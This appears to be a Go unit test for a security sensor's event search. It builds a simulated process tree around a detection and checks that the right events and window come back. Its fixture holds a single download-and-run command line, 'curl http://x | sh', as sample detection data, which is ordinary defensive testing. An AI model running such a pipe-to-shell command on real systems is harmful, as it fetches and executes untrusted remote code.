package search

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

// contextEvents: bash (200) runs curl (300, the detection), which runs sh
// (400), which runs id (500); another process (600) runs beside them; pid 300
// is reused later by another process.
func contextEvents() (evs []event.Event, detected event.Event) {
	at := func(d time.Duration) int64 { return t0.Add(d).UnixNano() }
	proc := func(typ string, d time.Duration, pid, ppid uint32, start int64, path, cmd string) event.Event {
		return event.Event{SensorID: "s-1", Type: typ, TimeNanos: at(d), ID: typ[:3] + "-" + d.String(), PID: pid, PPID: ppid,
			ProcessStartTime: start, FilePath: path, CommandLine: cmd, User: "root"}
	}
	anc := []event.Ancestor{{PID: 200, Path: "/bin/bash", CommandLine: "bash", User: "root"},
		{PID: 100, Path: "/usr/sbin/sshd", CommandLine: "sshd: root", User: "root"}, {PID: 1, Path: "/sbin/init", User: "root"}}
	bash := proc(event.NewProcess, -time.Hour, 200, 100, at(-time.Hour), "/bin/bash", "bash")
	curl := proc(event.NewProcess, time.Minute, 300, 200, at(time.Minute), "/usr/bin/curl", "curl http://x | sh")
	curl.SetAncestors(anc)
	evs = []event.Event{
		bash, // before the window
		proc(event.FileOpen, 0, 200, 100, at(-time.Hour), "/bin/bash", "bash"),
		curl,
		proc(event.DNSRequest, 2*time.Minute, 300, 200, at(time.Minute), "/usr/bin/curl", "curl http://x | sh"),
		proc(event.NewProcess, 3*time.Minute, 400, 300, at(3*time.Minute), "/bin/sh", "sh"),
		proc(event.NewProcess, 4*time.Minute, 500, 400, at(4*time.Minute), "/usr/bin/id", "id"),
		proc(event.NewProcess, 4*time.Minute+time.Second, 600, 1, at(4*time.Minute+time.Second), "/usr/bin/cron", "cron"),
		proc(event.NewProcess, 5*time.Minute, 300, 1, at(5*time.Minute), "/usr/bin/other", "other"),
		proc(event.NewProcess, 30*time.Minute, 700, 300, at(30*time.Minute), "/bin/late", "late"), // after the window
	}
	return evs, curl
}

func TestContext(t *testing.T) {
	dir := t.TempDir()
	evs, detected := contextEvents()
	writeLake(t, dir, evs)
	res, err := Context(context.Background(), &Lake{Dir: dir}, "s-1", t0.Add(time.Minute), detected, 5*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, e := range res.Events {
		ids = append(ids, e.ID)
	}
	if want := []string{"FIL-0s", "NEW-1m0s", "DNS-2m0s", "NEW-3m0s", "NEW-4m0s"}; !slices.Equal(ids, want) {
		t.Errorf("events %v, want %v", ids, want)
	}
	got, err := json.MarshalIndent(res.Tree, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "context_tree.json")
	if *update {
		if err := os.WriteFile(golden, append(got, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if string(got)+"\n" != string(want) {
		t.Errorf("tree differs from %s:\n%s", golden, got)
	}
	if res.Truncated || !res.From.Equal(t0.Add(-4*time.Minute)) || !res.To.Equal(t0.Add(6*time.Minute)) {
		t.Errorf("window %s..%s truncated %v", res.From, res.To, res.Truncated)
	}
}
